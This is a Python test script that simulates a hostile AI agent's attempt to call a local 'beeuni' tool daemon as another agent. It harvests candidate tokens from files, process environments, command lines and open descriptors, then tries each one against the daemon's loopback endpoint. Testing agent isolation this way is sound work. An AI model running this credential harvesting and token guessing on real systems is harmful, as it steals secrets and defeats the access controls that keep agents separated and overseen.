"""What a hostile model's shell command does to call the daemon as another agent: read every file
of the given folders, every process's environment and command line, the open descriptors of the
session's processes (those below ROOT), take every string that could be a token, find the
project's daemon (the loopback listener of the process whose command line names the project),
and call the tool with each of them (and with none) as the agent it names. Standard library
only: it runs under any python3.

    python3 intruder.py AGENT TOOL ROOT PROJECT FOLDER...

It prints ``{"candidates": N, "answers": {"PORT": {"STATUS": count}}}``. Pipes are left alone:
reading one takes what waits in it from its reader — another test's messages — and the daemon
hands nothing over a pipe (a socket cannot be opened through ``/proc`` at all).
"""

from __future__ import annotations

import json
import os
import re
import stat
import sys
import urllib.error
import urllib.request
from collections import Counter

TOKEN = re.compile(rb"[A-Za-z0-9_-]{32,64}")
READ_LIMIT = 1 << 20


def read(path: str) -> bytes:
    try:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)  # a pipe's end must not block
    except OSError:
        return b""
    try:
        return os.read(descriptor, READ_LIMIT)
    except OSError:
        return b""
    finally:
        os.close(descriptor)


def everything_readable(root: int, folders: list[str]) -> list[bytes]:
    found = []
    for folder in folders:
        for parent, _, files in os.walk(folder):
            found += [read(os.path.join(parent, name)) for name in files]
    for pid in filter(str.isdigit, os.listdir("/proc")):
        found += [read(f"/proc/{pid}/environ"), read(f"/proc/{pid}/cmdline")]
    for pid in descendants(root):
        try:
            descriptors = [f"/proc/{pid}/fd/{fd}" for fd in os.listdir(f"/proc/{pid}/fd") if int(fd) > 2]
            found += [read(path) for path in descriptors if not stat.S_ISFIFO(os.stat(path).st_mode)]
        except OSError:
            continue
    return found


def descendants(root: int) -> list[int]:
    found, pending = [], [root]
    while pending:
        pid = pending.pop()
        try:
            tasks = os.listdir(f"/proc/{pid}/task")
            children = [int(c) for t in tasks for c in read(f"/proc/{pid}/task/{t}/children").split()]
        except OSError:
            continue
        found += children
        pending += children
    return found


def daemon_ports(project: str) -> list[int]:
    """The 127.0.0.1 ports listened on by a process whose command line names ``project``."""
    listening = {}
    with open("/proc/net/tcp", encoding="ascii") as table:
        next(table)
        for line in table:
            fields = line.split()
            if fields[3] == "0A" and fields[1].startswith("0100007F:"):  # LISTEN on 127.0.0.1
                listening[f"socket:[{fields[9]}]"] = int(fields[1].split(":")[1], 16)
    ports = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if project.encode() not in read(f"/proc/{pid}/cmdline"):
            continue
        try:
            ports.update(listening.get(os.readlink(f"/proc/{pid}/fd/{fd}"), 0) for fd in os.listdir(f"/proc/{pid}/fd"))
        except OSError:
            continue
    return sorted(ports - {0})


def status_of(port: int, tool: str, agent: str, token: bytes | None) -> str:
    headers = {"content-type": "application/json", "x-beeuni-agent": agent}
    if token is not None:
        headers["authorization"] = f"Bearer {token.decode()}"
    request = urllib.request.Request(f"http://127.0.0.1:{port}/beeuni/tools/{tool}", b"{}", headers)
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return str(answer.status)
    except urllib.error.HTTPError as error:
        return str(error.code)
    except OSError as error:
        return type(error).__name__


def main() -> None:
    agent, tool, root, project, folders = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[4:]
    candidates = {match for data in everything_readable(root, folders) for match in TOKEN.findall(data)}
    answers: dict[str, Counter[str]] = {}
    for port in daemon_ports(project):
        tried = answers[str(port)] = Counter()
        for token in [None, *sorted(candidates)]:
            tried[status_of(port, tool, agent, token)] += 1
    print(json.dumps({"candidates": len(candidates), "answers": answers}))


if __name__ == "__main__":
    main()
